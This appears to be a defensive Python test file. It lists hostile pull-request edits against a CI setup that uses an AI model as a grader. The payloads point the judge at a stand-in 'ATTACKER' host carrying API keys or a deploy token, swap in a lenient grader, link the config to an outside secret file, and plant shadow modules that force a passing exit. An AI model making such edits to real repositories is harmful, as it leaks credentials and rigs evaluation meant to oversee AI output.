"""Attacks on who judges: the policy of the base holds until the merge."""

from tests.security.hostile_pull_requests.attack import CASE, CONFIG, Attack

JUDGE = 'api_base: "JUDGE/v1"'
LENIENT = (
    '  - {name: lenient, model: openai/gpt-6-sol, api_base: "ATTACKER/v1", '
    'api_key: "${{ OPENAI_API_KEY }}"}\n'
)


def changed(*edits: tuple[str, str], said: tuple[str, ...] = ()) -> Attack:
    """Return the attack of an edited configuration."""
    text = CONFIG
    for before, after in edits:
        assert before in text
        text = text.replace(before, after)
    return Attack(head={"rubric-ci.yaml": text}, said=said)


ATTACKS = {
    "another address of the judge": changed(("JUDGE/v1", "ATTACKER/v1")),
    "an address before the address": changed(("JUDGE/v1", "ATTACKER/https://JUDGE/v1")),
    "an address with the other as a fragment": changed(("JUDGE/v1", "ATTACKER/v1#JUDGE")),
    "a blank address": changed((JUDGE, 'api_base: " "')),
    "no address": changed((f", {JUDGE}", "")),
    "a base_url beside api_base": changed((JUDGE, f'{JUDGE}, base_url: "ATTACKER/v1"')),
    "another model": changed(("openai/gpt-6-luna", "openai/lenient")),
    "another provider": changed(("openai/gpt-6-luna", "ollama/llama3")),
    "headers with a token": changed(
        (JUDGE, f'{JUDGE}, extra_headers: {{x-token: "${{{{ DEPLOY_TOKEN }}}}"}}')
    ),
    "a token in place of the key": changed(("OPENAI_API_KEY", "DEPLOY_TOKEN")),
    "votes, mode and temperature": changed(
        (JUDGE, f"{JUDGE}, votes: 1, mode: isolated, temperature: 2")
    ),
    "a judge of the target": changed(
        ("answers.jsonl}\n", "answers.jsonl, judge_target: lenient}\n" + LENIENT),
        said=("targets.default.judge_target: (none) → lenient",),
    ),
    "no judge": Attack(head={"rubric-ci.yaml": CONFIG.partition("\n")[2]}),
    "no configuration": Attack(head={"rubric-ci.yaml": None}, code=2),
    "a configuration that is a link": Attack(
        head={"rubric-ci.yaml": "-> other.yaml", "other.yaml": CONFIG.replace("JUDGE", "ATTACKER")}
    ),
    "a configuration outside": Attack(head={"rubric-ci.yaml": "-> ../outside/secret.txt"}, code=2),
    "a configuration with errors": Attack(head={"rubric-ci.yaml": "gate: [\n"}, code=2),
    "a targets file": Attack(
        head={
            "evals/targets.yaml": (
                "targets:\n  - {name: default, provider: recorded, "
                f"answers: ../answers.jsonl, judge_target: lenient}}\n{LENIENT}"
            )
        }
    ),
    "a targets file of AgentV": Attack(
        head={
            ".agentv/targets.yaml": (
                "targets:\n  - {name: default, provider: mock, "
                f"response: hello, judge_target: lenient}}\n{LENIENT}"
            )
        }
    ),
    "an evaluator with a target of its own": Attack(
        head={
            "evals/a.eval.yaml": "evalcases:\n" + CASE + "    execution: {target: lenient}\n",
            "evals/targets.yaml": f"targets:\n{LENIENT}",
        },
        code=2,
        said=("which count after the merge",),
    ),
    "the first base without a configuration": Attack(
        base={"rubric-ci.yaml": CONFIG, "other.yaml": ""},
        head={"other.yaml": CONFIG.replace("JUDGE", "ATTACKER")},
    ),
    "environment files": Attack(
        head=dict.fromkeys(
            (".env", ".env.local", "evals/.env"),
            "OPENAI_BASE_URL=ATTACKER/v1\nOPENAI_API_BASE=ATTACKER/v1\nHTTP_PROXY=ATTACKER\n",
        )
    ),
    "settings of libraries": Attack(
        head={
            ".netrc": "machine 127.0.0.1 login a password b\n",
            "litellm_config.yaml": "litellm_settings: {api_base: ATTACKER}\n",
            "sitecustomize.py": "raise SystemExit(0)\n",
            "litellm.py": "raise SystemExit(0)\n",
            "yaml.py": "raise SystemExit(0)\n",
        }
    ),
}
